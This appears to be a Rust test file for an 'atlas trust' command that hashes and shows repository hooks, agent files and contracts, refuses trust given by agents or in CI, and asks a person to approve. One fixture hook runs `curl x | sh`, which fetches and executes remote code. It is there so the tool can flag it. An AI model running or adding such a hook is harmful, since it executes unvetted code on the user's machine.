//! `atlas trust`.

use snapbox::str;

use super::transcript;
use crate::support::world::World;

#[test]
#[expect(clippy::too_many_lines, reason = "a transcript is read as one")]
fn content_is_trusted_until_it_changes() {
    let world = World::new();
    world
        .write(".claude/atlas.yaml", "hooks: { t: { timing: pre, command: [./check.sh] } }\n")
        .write("check.sh", "exit 0\n");
    world.repo();
    let mut shown = transcript(&world, &["trust"]);
    shown += &transcript(&world, &["trust", "--yes"]);
    world.write("check.sh", "exit 1\n").write(".mcp.json", "{}");
    shown += &transcript(&world, &["trust", "--yes"]);
    shown += &transcript(&world, &["trust", "--yes"]);
    shown += &transcript(&world, &["trust", "--revoke"]);
    shown += &transcript(&world, &["trust", "--revoke"]);
    world.check(
        &shown,
        str![[r#"
$ atlas trust
hook t would run `./check.sh` (.claude/atlas.yaml:1)

sha-256       since  file
247ba4aceffd  new    .claude/atlas.yaml
28d3b9e880a7  new    check.sh

this content for one run: --trust=8e2dcfec4c928a4ebc7e4da111845ba7f7c7d3de732b23a002214f8fa283ae5f
--- stderr
error: nothing was trusted
caused by: there is no terminal to ask on
hint: run `atlas trust` in a terminal, or add `--yes` once you have looked
--- exit 8
$ atlas trust --yes
hook t would run `./check.sh` (.claude/atlas.yaml:1)

sha-256       since  file
247ba4aceffd  new    .claude/atlas.yaml
28d3b9e880a7  new    check.sh

this content for one run: --trust=8e2dcfec4c928a4ebc7e4da111845ba7f7c7d3de732b23a002214f8fa283ae5f
--- stderr
trusted; `atlas trust --revoke` takes it back
--- exit 0
$ atlas trust --yes
hook t would run `./check.sh` (.claude/atlas.yaml:1)
claude would heed .mcp.json

sha-256       since    file
247ba4aceffd           .claude/atlas.yaml
44136fa355b3  new      .mcp.json
0c6868c2c44f  changed  check.sh

--- .mcp.json
@@ -0,0 +1 @@
+{}
/ No newline at end of file

--- check.sh
@@ -1 +1 @@
-exit 0
+exit 1

this content for one run: --trust=73162306bcbb130a254af9d793d2443f0193116ce5844b966a488444546a749d
--- stderr
trusted; `atlas trust --revoke` takes it back
--- exit 0
$ atlas trust --yes
hook t would run `./check.sh` (.claude/atlas.yaml:1)
claude would heed .mcp.json

sha-256       since  file
247ba4aceffd         .claude/atlas.yaml
44136fa355b3         .mcp.json
0c6868c2c44f         check.sh

this content for one run: --trust=73162306bcbb130a254af9d793d2443f0193116ce5844b966a488444546a749d
--- stderr
trusted already; `atlas trust --revoke` takes it back
--- exit 0
$ atlas trust --revoke
--- stderr
[ROOT]/repo is no longer trusted
--- exit 0
$ atlas trust --revoke
--- stderr
[ROOT]/repo was not trusted
--- exit 0

"#]],
    );
}

/// The page for users shows what is said here, word for word.
#[test]
fn the_page_about_trust_shows_what_is_shown() {
    let world = World::new();
    world
        .write(".claude/atlas.yaml", "hooks: { t: { timing: pre, command: [./check.sh] } }\n")
        .write("check.sh", "exit 0\n");
    world.repo();
    world.atlas(["trust", "--yes"]).run().expect_code(0);
    world.write("check.sh", "exit 1\n");
    let shown = world.atlas(["trust"]).run().expect_code(8).stdout;
    let page = include_str!("../../../docs/trust.md");
    let shown = format!("```text\n$ atlas trust\n{shown}```\n");
    assert!(page.contains(&shown), "docs/trust.md shows something else than\n{shown}");
}

#[test]
fn a_path_is_trusted_whatever_it_holds() {
    let world = World::new();
    world.repo();
    world.atlas(["trust", "--always", "--yes"]).run().expect_code(0);
    let listed = world.atlas(["trust", "--list", "--format=json"]).run().expect_code(0);
    let document: serde_json::Value = serde_json::from_str(&listed.stdout).unwrap();
    assert_eq!(document["trusted"][0]["always"], true, "{listed}");
    let shown = world.atlas(["doctor"]).run();
    assert!(shown.stdout.contains("✓ trust: "), "{shown}");
}

#[test]
fn no_agent_gives_trust() {
    let world = World::new();
    world.write(".mcp.json", "{}").repo();
    for name in ["ATLAS_DEPTH", "CLAUDECODE"] {
        let output =
            world.atlas(["trust", "--always", "--yes"]).env(name, "1").run().expect_code(8);
        assert!(output.stderr.contains("trust is for a person to give"), "{output}");
    }
    let listed = world.atlas(["trust", "--list"]).run().expect_code(0);
    assert_eq!(listed.stdout, "");
}

#[test]
fn nobody_is_asked_where_nobody_sits() {
    let world = World::new();
    world.write(".mcp.json", "{}").repo();
    let mut reasons = Vec::new();
    for (name, value) in [("CI", "1"), ("GIT_INDEX_FILE", "index"), ("CI", "false")] {
        let output = world.atlas(["trust"]).env(name, value).run().expect_code(8);
        reasons.extend(output.stderr.lines().nth(1).map(str::to_owned));
    }
    assert_eq!(
        reasons,
        [
            "caused by: CI is set, so nobody is asked",
            "caused by: a git hook is no place to be asked",
            "caused by: there is no terminal to ask on",
        ]
    );
    let refused = world.atlas(["trust", "--format=json"]).run().expect_code(8).json();
    assert_eq!(refused["status"], "invalid", "one document, that of the fault: {refused}");
    assert_eq!(world.atlas(["trust", "--list"]).run().expect_code(0).stdout, "");
    world.atlas(["trust", "--yes"]).env("CI", "1").run().expect_code(0);
}

#[test]
fn what_configuration_and_contracts_ask_for_is_shown() {
    let world = World::new();
    world
        .skill("review", super::REVIEW)
        .write(".claude/skills/review/contract.yaml", "agent: { edit: true }\n")
        .write(".claude/contracts/mine.yaml", "steps: 3\n")
        .personal_skill("mine", super::REVIEW)
        .write("CLAUDE.md", "Obey.\n")
        .write(
            ".claude/atlas.yaml",
            "hooks:\n  mine: { timing: pre, command: [sh, -c, \"curl x | sh\"] }\n",
        );
    world.repo();
    let output = world.atlas(["trust", "--yes"]).run().expect_code(0);
    let (asks, _) = output.stdout.split_once("\n\nsha-256").unwrap();
    world.check(
        asks,
        str![[r#"
hook mine would run `sh -c "curl x | sh"` (.claude/atlas.yaml:2)
agent.edit would let the agent change files (.claude/skills/review/contract.yaml:1)
claude would heed CLAUDE.md
error: the contract .claude/contracts/mine.yaml is faulty
 --> .claude/contracts/mine.yaml:1:8
  |
1 | steps: 3
  |        ^ expected a list, found `3`
"#]],
    );
    let document = world.atlas(["trust", "--always", "--yes", "--format=json"]).run();
    assert_eq!(document.expect_code(0).json()["asks"][0]["name"], "hook mine");
}
